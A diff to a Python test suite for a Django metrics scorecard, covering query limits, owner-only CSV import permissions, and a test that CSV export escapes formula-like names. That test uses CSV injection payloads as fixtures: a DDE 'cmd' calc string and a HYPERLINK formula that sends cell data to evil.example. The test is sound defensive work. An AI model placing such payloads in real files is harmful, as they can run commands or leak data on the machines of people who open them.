@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime
 import io
 from decimal import Decimal
@@ -245,12 +246,13 @@ def test_the_scorecard_runs_a_fixed_number_of_queries_with_100_metrics(
     MetricValue.objects.bulk_create(
         MetricValue(metric=m, period=w, value=i % 9) for m in metrics for i, w in enumerate(weeks)
     )
-    with django_assert_max_num_queries(14):
+    # One of them asks whether the team member owns a metric (and so may import values).
+    with django_assert_max_num_queries(15):
         response = member_client.get(reverse("metrics:scorecard"))
     # Fifty metrics a page, thirteen weeks each.
     assert response.content.decode().count('<td class="cell') == 50 * 13
     assert "page 1 of 2" in response.content.decode()
-    with django_assert_max_num_queries(14):
+    with django_assert_max_num_queries(15):
         second = member_client.get(reverse("metrics:scorecard"), {"page": 2})
     assert second.content.decode().count('<td class="cell') == 50 * 13
 
@@ -328,9 +330,48 @@ def test_a_file_that_is_not_a_values_csv_is_refused(founder_client):
     assert "not UTF-8" in response.content.decode()
 
 
-def test_team_members_export_but_cannot_import(member_client):
+def test_team_members_who_own_no_metric_export_but_cannot_import(member_client):
+    weekly(name="Videos published")  # someone else's
     assert member_client.get(reverse("metrics:export")).status_code == 200
     assert upload(member_client, "metric_id,period,value\n").status_code == 403
+    assert "Import CSV" not in member_client.get(reverse("metrics:scorecard")).text
+
+
+def test_a_team_member_imports_the_values_of_the_metrics_they_own(member_client, member):
+    mine = weekly(name="Videos published", owner=member)
+    theirs = weekly(name="Subscribers gained")
+    scorecard = member_client.get(reverse("metrics:scorecard")).text
+    assert f'href="{reverse("metrics:import")}"' in scorecard
+    page = member_client.get(reverse("metrics:import")).text
+    assert f"<code>{mine.pk}</code> Videos published" in page and "Subscribers" not in page
+
+    week = code(Cadence.WEEKLY, this_week())
+    html = upload(member_client, f"metric_id,period,value\n{mine.pk},{week},4\n").text
+    assert "Stored 1 value" in html
+    assert MetricValue.objects.get(metric=mine).value == 4
+
+    refused = upload(member_client, f"metric_id,period,value\n{theirs.pk},{week},9\n").text
+    assert "You may not record values of “Subscribers gained”" in refused
+    assert not MetricValue.objects.filter(metric=theirs).exists()
+
+
+def test_the_csv_export_writes_names_that_look_like_formulas_as_text(founder_client):
+    process = ProcessFactory(name="+cmd|' /C calc'!A0")
+    metric = weekly(name='=HYPERLINK("http://evil.example/?"&A1,"Click")', process=process)
+    for name in ("@SUM(1+1)", "-2+3", "\tTabbed"):
+        MetricValue.objects.create(
+            metric=weekly(name=name, process=process), period=this_week(), value=-5
+        )
+    MetricValue.objects.create(metric=metric, period=this_week(), value=-5)
+    exported = founder_client.get(reverse("metrics:export")).content.decode()
+    rows = list(csv.reader(io.StringIO(exported)))[1:]
+    for row in rows:
+        assert row[1].startswith("'") and row[2].startswith("'"), row
+        assert row[5] == "-5.00"  # a number stays a number
+    # And the file imports again as it was written.
+    MetricValue.objects.all().delete()
+    assert "Stored 4 values" in upload(founder_client, exported).text
+    assert MetricValue.objects.count() == 4
 
 
 def test_a_decimal_comma_is_refused_rather_than_misread(member_client, member):
